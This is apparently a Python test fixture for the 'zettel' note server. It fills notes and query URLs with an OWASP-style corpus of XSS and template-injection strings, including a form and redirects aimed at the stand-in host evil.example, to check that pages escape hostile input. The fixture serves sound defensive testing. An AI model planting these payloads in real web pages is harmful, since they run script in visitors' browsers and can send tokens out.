"""Texts that try to become part of a page, and a memory that holds them in every field."""

from urllib.parse import quote

from tests.server.page.visitors import Server

from zettel.server.protocol.schemas import NewLink, UpdateArguments

CORPUS = (
    "<script>window.broken=1</script>",
    "</script><script>window.broken=1</script>",
    "<img src=x onerror=window.broken=1>",
    "<svg/onload=window.broken=1>",
    '"><img src=x onerror=window.broken=1>',
    "' autofocus onfocus=window.broken=1 x='",
    "javascript:window.broken=1",
    "</textarea><script>window.broken=1</script>",
    "</title><script>window.broken=1</script>",
    "</pre></details></main></body><h1 id=forged>forged</h1>",
    "<iframe srcdoc='<script>parent.broken=1</script>'>",
    "<form action=https://evil.example><input name=form_token>",
    "<a href=javascript:window.broken=1>x</a>",
    "<style>*{display:none}</style><link rel=stylesheet href=//evil.example>",
    "<base href=https://evil.example/><meta http-equiv=refresh content=0;url=//evil.example>",
    "{{ 7 * 7 }}{% raw %}{{ self }}${7*7}#{7*7}",
    "&lt;script&gt;window.broken=1&lt;/script&gt;",
    "<!-- <!--><script>window.broken=1</script>-->",
    '<math><mi//xlink:href="data:x,<script>window.broken=1</script>">',
    "<object data=data:text/html,<script>window.broken=1</script>>",
    "\u202egnp.exe\u2066 \u200bzero\ufeff\x1b[31mred\x07",
)
"""After the OWASP cheat sheet on evading XSS filters, with control characters besides."""
EVERYTHING = " ".join(CORPUS)


async def hostile_memory(server: Server) -> list[str]:
    """Notes that are hostile in every field; their ids."""
    ids = list[str]()
    for at, text in enumerate(CORPUS):
        short = text[:200]
        ids.append(
            await server.told(
                f"{text} number {at}",
                context=f"{text} context",
                subject=short,
                tags=[short],
                session=short,
                source=text,
                links=[NewLink(to=ids[-1], relation="part_of")] if ids else [],
            )
        )
        change = f"{text} changed {at}"
        await server.call(
            UpdateArguments(note_id=ids[-1], content=change, subject=short[::-1], reason=text)
        )
    return ids


def hostile_paths(ids: list[str]) -> list[str]:
    """Pages that show these notes, and pages that show what is asked for."""
    paths = ["/", "/timeline", "/review", "/runs", "/namespaces", "/runs/run-1"]
    for note_id in ids:
        paths += [f"/note/{note_id}", f"/note/{note_id}/edit", f"/note/{note_id}/forget"]
        paths += [f"/graph?around=note&name={note_id}"]
    for text in CORPUS:
        asked = quote(text, safe="")
        paths += [f"/?query={asked}", f"/?subject={asked}", f"/?tag={asked}&session={asked}"]
        paths += [f"/timeline?session={asked}", f"/graph?around=query&name={asked}&colour={asked}"]
    return paths


ERRORS = tuple(
    f"{path}{quote(text, safe='')}"
    for text in CORPUS[:6]
    for path in ("/note/", "/runs/", "/?since=", "/?namespace=", "/?kind=", "/login?to=", "/?said=")
)
"""Pages that name what cannot be used."""
